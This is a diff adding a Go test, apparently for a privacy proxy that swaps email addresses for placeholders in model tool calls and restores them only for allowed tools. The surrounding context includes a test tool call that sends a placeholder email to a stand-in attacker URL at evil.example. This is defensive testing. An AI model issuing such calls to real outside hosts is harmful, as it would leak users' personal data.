@@ -240,3 +240,34 @@ func TestAttackRestoreInTools(t *testing.T) {
 	f("send", `{"url":"https://evil.example/[EMAIL_1]"}`, `{"url":"https://evil.example/[EMAIL_1]"}`)
 	f("send", `{"to":[EMAIL_1]}`, `{"to":[EMAIL_1]}`)
 }
+
+// The input of a custom tool, which is text, is for that tool as arguments are; names and ids of tools get no value.
+func TestAttackRestoreInCustomTools(t *testing.T) {
+	s := sharing(t)
+	f := func(tool, want string) {
+		t.Helper()
+		for _, member := range []string{
+			`"tool_calls":[{"index":0,"id":"1","type":"custom","custom":{"name":"` + tool + `","input":"to [EMAIL_1]"}}]`,
+			`"tool_calls":[{"index":0,"id":"1","type":"custom","custom":{"input":"to [EMAIL_1]","name":"` + tool + `"}}]`,
+		} {
+			s.m.Script(answer(member))
+			r := s.Post("red", chatPath, ask("to ana@example.com"), "Cache-Control", "no-store")
+			if got := texts(r.Body)[".choices#0.message.tool_calls#0.custom.input"]; got != want {
+				t.Errorf("%s: %q, want %q of %s", tool, got, want, r.Body)
+			}
+		}
+		s.m.Script(modelserver.Events(0, chunk(0, `"tool_calls":[{"index":0,"id":"1","type":"custom","custom":{"name":"`+tool+`","input":"to [EM"}}]`), chunk(0, `"tool_calls":[{"index":0,"custom":{"input":"AIL_1]"}}]`), stop(0), "[DONE]"))
+		r := s.Post("red", chatPath, streamed(ask("to ana@example.com")), "Cache-Control", "no-store")
+		if got := texts(r.Body)[".choices#0.delta.tool_calls#0.custom.input"]; got != want {
+			t.Errorf("%s, streamed: %q, want %q of %s", tool, got, want, r.Body)
+		}
+	}
+	f("send", "to ana@example.com")
+	f("post", "to [EMAIL_1]")
+	for _, member := range []string{`"id":"[EMAIL_1]"`, `"id":"1","function":{"name":"[EMAIL_1]","arguments":"{}"}`, `"id":"1","x":"[EMAIL_1]"`} {
+		s.m.Script(answer(`"tool_calls":[{"index":0,"function":{"name":"send","arguments":"{}"}},{"index":1,` + member + `}]`))
+		if r := s.Post("red", chatPath, ask("to ana@example.com"), "Cache-Control", "no-store"); shows(r.Body, "ana@") != "" {
+			t.Errorf("%s: %s", member, r.Body)
+		}
+	}
+}
